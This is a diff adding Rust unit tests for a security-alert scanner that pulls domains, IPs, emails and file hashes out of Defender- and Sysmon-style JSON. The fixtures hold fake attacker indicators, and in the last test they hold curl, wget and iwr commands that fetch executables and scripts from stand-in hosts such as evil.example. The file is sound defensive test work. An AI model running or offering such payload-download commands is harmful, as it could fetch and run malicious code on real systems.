@@ -748,3 +748,132 @@ fn loopback_is_not_taken_from_text() {
     let set = text("connect to 127.0.0.1:445");
     assert!(set.is_empty(), "{:?}", set.to_vec());
 }
+
+#[test]
+fn product_and_company_names_alone_do_not_make_a_binary() {
+    // A Sentinel/Graph-style alert: `ProductName` names the detecting product, and the
+    // `Description` beside it is the alert's own text.
+    let set = scan(json!({
+        "ProductName": "Microsoft Defender for Endpoint",
+        "CompanyName": "Contoso, reported by ops@soc-contoso.net",
+        "Description": "host contacted c2.evil-domain.com at 203.0.113.77",
+        // A version key without the file it describes is no binary either.
+        "detail": { "FileVersion": "1.0", "Company": "beacon to relay.evil-domain.com" },
+    }));
+    assert_eq!(
+        sorted(&set, IocKind::Domain),
+        ["c2.evil-domain.com", "relay.evil-domain.com"]
+    );
+    assert_eq!(values(&set, IocKind::Ipv4), ["203.0.113.77"]);
+    assert_eq!(values(&set, IocKind::Email), ["ops@soc-contoso.net"]);
+    // Sysmon: the file (`Image`, `ImageLoaded`, `TargetFilename`) and its version
+    // resource; flattened keys count under their own prefix only.
+    let set = scan(json!({
+        "event_data": {
+            "Image": "C:\\Tools\\curl.exe",
+            "OriginalFileName": "curl.exe",
+            "Company": "curl, https://curl.se/",
+            "CompanyName": "curl.se",
+            "ProductName": "www.curl.se",
+        },
+        "load": { "ImageLoaded": "C:\\x\\a.dll", "FileVersion": "1.2", "Product": "dll.vendor.org" },
+        "winlog.event_data.TargetFilename": "C:\\x\\b.exe",
+        "winlog.event_data.OriginalFileName": "b.exe",
+        "winlog.event_data.Description": "b.vendor.org",
+        "alert.Description": "seen talking to c3.evil-domain.com",
+    }));
+    assert_eq!(sorted(&set, IocKind::Domain), ["c3.evil-domain.com"]);
+    assert!(
+        set.of_kind(IocKind::Url).next().is_none(),
+        "{:?}",
+        set.to_vec()
+    );
+}
+
+#[test]
+fn non_file_hash_labels_in_free_text_or_of_another_length_reject_nothing() {
+    let (sha256, md5, sha1) = (hex(20, 64), hex(21, 32), hex(22, 40));
+    let declared =
+        |raw: Value, h: &str| extract(&alert(raw, json!({ "hashes": [h] })), &IocConfig::default());
+    // A command line is free text: its labels do not speak for the declared hashes.
+    for (raw, h, kind) in [
+        (
+            json!({ "CommandLine": format!("x.exe --ja3={sha256}") }),
+            &sha256,
+            IocKind::Sha256,
+        ),
+        (
+            json!({ "CommandLine": format!("x.exe --ja3={md5}") }),
+            &md5,
+            IocKind::Md5,
+        ),
+        (
+            json!({ "msg": format!("imphash: {md5}") }),
+            &md5,
+            IocKind::Md5,
+        ),
+        // A 64- or 40-digit value is no import hash or ja3, wherever it is.
+        (
+            json!({ "event_data": { "Hashes": format!("SHA1={sha1},IMPHASH={sha256}") } }),
+            &sha256,
+            IocKind::Sha256,
+        ),
+        (json!({ "ja3": sha1 }), &sha1, IocKind::Sha1),
+        (
+            json!({ "process": { "pe": { "imphash": sha256 } } }),
+            &sha256,
+            IocKind::Sha256,
+        ),
+    ] {
+        let set = declared(raw.clone(), h);
+        assert!(set.contains(kind, h), "{raw}: {:?}", set.to_vec());
+        assert!(set.rejected.is_empty(), "{raw}: {:?}", set.rejected);
+    }
+    // The structured field still rejects one of the label's own length.
+    let set = declared(
+        json!({ "hashes": format!("MD5={sha1},IMPHASH={md5}") }),
+        &md5,
+    );
+    assert_eq!(
+        set.rejected,
+        [(
+            md5,
+            "indicators.hashes[0]".to_owned(),
+            RejectReason::NotAFileHash
+        )]
+    );
+}
+
+#[test]
+fn hash_as_a_file_name_in_a_url_counts() {
+    let (sha256, md5, commit, sha1) = (hex(23, 64), hex(24, 32), hex(25, 40), hex(26, 40));
+    let set = scan(json!({
+        "a": format!("curl http://evil.example/dl/{sha256}.exe -o a.exe"),
+        "b": format!("wget \"https://x.example/{md5}\""),
+        "c": format!("iwr https://cdn.example/p/{sha1}.tar.gz; see https://github.com/o/r/commit/{commit}"),
+    }));
+    assert_eq!(values(&set, IocKind::Sha256), std::slice::from_ref(&sha256));
+    assert_eq!(values(&set, IocKind::Md5), std::slice::from_ref(&md5));
+    assert_eq!(values(&set, IocKind::Sha1), [sha1]);
+    assert!(set.contains(
+        IocKind::Url,
+        &format!("http://evil.example/dl/{sha256}.exe")
+    ));
+    // Without a scheme too; a bare 40-digit segment is a commit, a bare non-last one a
+    // folder, a query value a parameter.
+    let set = scan(json!({
+        "a": format!("fetch evil.example/dl/{sha256}.ps1 and github.com/o/r/commit/{commit}"),
+        "b": format!("https://cdn.example/{md5}/app.js https://f.example/?id={md5} http://{md5}/"),
+    }));
+    assert_eq!(values(&set, IocKind::Sha256), [sha256]);
+    assert!(
+        set.of_kind(IocKind::Sha1).next().is_none(),
+        "{:?}",
+        set.to_vec()
+    );
+    assert!(
+        set.of_kind(IocKind::Md5).next().is_none(),
+        "{:?}",
+        set.to_vec()
+    );
+}
